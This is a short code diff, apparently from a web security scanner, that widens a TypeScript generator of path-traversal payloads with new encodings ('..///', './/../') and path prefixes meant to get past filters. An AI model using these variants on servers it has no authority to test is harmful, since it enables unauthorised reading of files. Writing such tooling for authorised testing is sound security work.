@@ -240,14 +240,21 @@ const CLIMBS = [
   '%252e%252e%252f',
   '..;/',
   '....//',
+  // Ways that need no decoding: a server may well decode nothing.
+  '..///',
+  '.././',
+  './/../',
+  './/..//',
 ];
+/** Stands before the climb; the first of them need not exist where paths are put together as text. */
+const BEFORE_CLIMB = ['/static/', '/public/', '/x/', '//', '/./', '/././', '/.//', '///'];
 
 function traversalPayloads(payload: string): string[] {
   const climb = /(?:\.\.|%2e%2e|\.%2e|%2e\.)(?:\/|%2f|\\|%5c)+/gi;
   const steps = payload.match(climb)?.length ?? 0;
   if (steps === 0) return [];
   const same = CLIMBS.map((form) => payload.replace(climb, () => form));
-  const more = ['/static/', '/public/', '/x/', '//', '/./'].map((prefix) => prefix + payload.replace(/^\//, ''));
+  const more = BEFORE_CLIMB.map((prefix) => prefix + payload.replace(/^\//, ''));
   return [...same, ...more, `${payload}?x=1`, `${payload}#x`];
 }
 
